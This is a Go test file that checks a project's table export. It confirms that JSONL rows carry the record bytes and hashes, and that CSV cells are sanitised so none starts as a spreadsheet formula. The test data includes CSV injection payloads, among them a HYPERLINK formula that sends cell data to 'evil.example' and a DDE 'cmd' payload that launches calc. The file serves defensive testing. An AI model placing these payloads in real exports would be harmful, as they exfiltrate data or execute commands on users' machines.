package bundle

import (
	"bytes"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/hooktrail/hooktrail/internal/evidence/ledger"
	"github.com/hooktrail/hooktrail/internal/subjects"
	"github.com/hooktrail/hooktrail/pkg/events"
)

func (e evidence) table(tb testing.TB, format Format, s ledger.Selection) string {
	tb.Helper()
	var out bytes.Buffer
	if err := WriteTable(tb.Context(), &out, e.reader, format, Options{Selection: s}); err != nil {
		tb.Fatal(err)
	}
	return out.String()
}

func TestTable_JSONLHasTheBytes(t *testing.T) {
	e := mixed().write(t)
	next := int64(0)
	for line := range strings.Lines(e.table(t, JSONL, ledger.Selection{})) {
		var got struct {
			Leaf   int64           `json:"leaf"`
			Hash   string          `json:"sha256"`
			Record json.RawMessage `json:"record"`
			Base64 string          `json:"record_base64"`
		}
		if err := json.Unmarshal([]byte(line), &got); err != nil {
			t.Fatalf("line %q: %v", line, err)
		}
		record := []byte(got.Record)
		if got.Base64 != "" {
			var err error
			if record, err = base64.StdEncoding.DecodeString(got.Base64); err != nil {
				t.Fatal(err)
			}
		}
		if got.Leaf != next || events.HashOf(record).String() != got.Hash {
			t.Errorf("leaf %d: want leaf %d with the bytes that have the hash", got.Leaf, next)
		}
		next++
	}
	if _, c, err := e.reader.Signed(t.Context()); err != nil || c.Size != next {
		t.Errorf("got %d records, want %d, %v", next, c.Size, err)
	}
}

var formulas = []string{
	"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "|cmd", "%0A", "＝1", "\ufeff=1", "\u00a0=1",
	"=HYPERLINK(\"http://evil.example/?\"&A1)", "=cmd|' /C calc'!A0",
}

//guarantee:export-hostile
func TestTable_CSVIsNoFormula(t *testing.T) {
	f := newFeed()
	for i, text := range formulas {
		f.publish(text, text, events.Custom, text+string(rune('a'+i)), map[string]string{"text": text})
		f.add(subjects.Address{Producer: text, Run: text, Kind: events.Custom}, []byte(text+"\xff\x00"))
	}
	f.publish("plain", "r1", events.Custom, "plain-1", map[string]string{"text": "a, \"b\"\nc"})
	text := f.write(t).table(t, CSV, ledger.Selection{})
	if !utf8.ValidString(text) || strings.ContainsRune(text, 0) {
		t.Error("it is no text")
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(rows) != 2*len(formulas)+2 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, row := range rows {
		for j, cell := range row {
			rest := strings.TrimLeft(cell, " \u00a0\ufeff")
			if strings.IndexAny(rest, formulaSigns) == 0 {
				t.Errorf("row %d, %s: %q is a formula", i, columns[j], cell)
			}
		}
	}
	last := rows[len(rows)-1]
	if diff := cmp.Diff([]string{"plain", "1", "custom", "plain-1", "r1"}, []string{last[6], last[7], last[8], last[9], last[10]}); diff != "" {
		t.Errorf("a plain row (-want +got):\n%s", diff)
	}
	if !strings.HasPrefix(last[19], `{"specversion":"1.0"`) {
		t.Errorf("the record is %q", last[19])
	}
}

func TestTable_Selection(t *testing.T) {
	e := mixed().write(t)
	rows, err := csv.NewReader(strings.NewReader(e.table(t, CSV, ledger.Selection{Run: "r1"}))).ReadAll()
	if err != nil || len(rows) != 1+34 {
		t.Errorf("%d rows, %v, want 33 events, what was set apart, and the names", len(rows), err)
	}
	err = WriteTable(t.Context(), &bytes.Buffer{}, e.reader, CSV, Options{Selection: ledger.Selection{Run: "none"}})
	if !errors.Is(err, ErrNothing) {
		t.Errorf("nothing: %v", err)
	}
	if err := WriteTable(t.Context(), &bytes.Buffer{}, e.reader, "xml", Options{}); err == nil {
		t.Error("an unknown format: no error")
	}
}

func FuzzHarmless(f *testing.F) {
	for _, text := range formulas {
		f.Add(text)
	}
	f.Add("plain")
	f.Fuzz(func(t *testing.T, text string) {
		got := harmless(text)
		if rest := strings.TrimLeft(got, " \u00a0\ufeff"); strings.IndexAny(rest, formulaSigns) == 0 {
			t.Errorf("%q is a formula", got)
		}
		if !utf8.ValidString(got) || strings.ContainsRune(got, 0) {
			t.Errorf("%q is no text", got)
		}
		if again := harmless(got); again != got {
			t.Errorf("%q becomes %q", got, again)
		}
	})
}
